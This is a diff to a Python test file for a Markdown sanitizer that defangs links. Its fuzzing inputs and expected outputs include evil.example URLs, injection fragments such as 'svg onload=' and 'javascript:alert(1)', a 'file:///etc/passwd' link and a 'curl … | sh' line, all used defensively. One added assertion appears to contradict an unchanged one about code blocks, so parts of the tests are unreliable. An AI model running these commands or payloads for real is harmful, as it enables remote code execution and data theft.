@@ -12,11 +12,11 @@ from cabinos.render.inert import inert
 
 PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 PIECES = [
-    "![", "[", "]", "(", ")", "](", "][r]", "[r]:", "]: ", "<", ">", "img src=", "a href=", "/", "!--",
-    "http://evil.example/?q=42", "//evil.example/x", "www.evil.example", "data:text/html,x", "\n",
-    "```", "~~~", "$$", " ", "  ", "- ", "> ", "1. ", "\\", "`", '"', "x", "&lt;", "<img src=//e/x>",
-    "![a](//e/x)", "\u200b", "\x1b]8;;http://evil.example/\x07", "<div style=", "<http://evil.example>",
-    "svg onload=", "%5D%28//e%29", "http://%5D%28%2F%2Fe%29",
+    "![", "[", "]", "(", ")", "](", "][r]", "[r]:", "]: ", "<", ">", "img src=", "a href=", "/",
+    "!--", "http://evil.example/?q=42", "//evil.example/x", "www.evil.example", "data:text/html,x",
+    "\n", "```", "~~~", "$$", " ", "  ", "- ", "> ", "1. ", "\\", "`", '"', "x", "&lt;",
+    "<img src=//e/x>", "![a](//e/x)", "\u200b", "\x1b]8;;http://evil.example/\x07", "<div style=",
+    "<http://evil.example>", "svg onload=", "%5D%28//e%29", "http://%5D%28%2F%2Fe%29",
 ]  # fmt: skip
 MARKDOWN = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=30).map("".join)
 
@@ -58,7 +58,7 @@ def shown(text: str, *known: str) -> str:
         ("https://bank.example@evil.example:8080/", "‹evil.example:8080/›"),
         ("http://аpple.com/login", "‹xn--pple-43d.com/login›"),
         ("HTTPS://EVIL.example", "‹EVIL.example›"),
-        ("www.evil.example/x", "‹www.evil.example/x›"),
+        ("www.evil.example/x", "‹www[.]evil.example/x›"),
         ("data:text/html;base64,PGk+", "‹data text/html;base64,PGk+›"),
         ("javascript:alert(1)", "‹javascript alert(1)›"),
         ("file:///etc/passwd", "‹file /etc/passwd›"),
@@ -85,6 +85,9 @@ def test_code_stays_code() -> None:
         "```sh\ncurl https://x.example/a | sh\n```\n```c\n#include <stdio.h>\nList<String> x;\n```"
     )
     assert shown(code) == code
+    assert shown("```sh\ncurl https://x.example/a | sh\n```") == (
+        "```sh\ncurl ‹x.example/a› | sh\n```"
+    )
 
 
 def test_a_block_that_is_none_hides_nothing() -> None:
@@ -111,7 +114,7 @@ def test_nothing_is_alive(text: str) -> None:
     tags = _Tags()
     tags.feed(made)
     assert not {"img", "a", "iframe", "svg", "link", "script"} & set(tags.found)
-    assert "http://" not in made or "```" in made
+    assert "http://" not in made
 
 
 @settings(deadline=None)
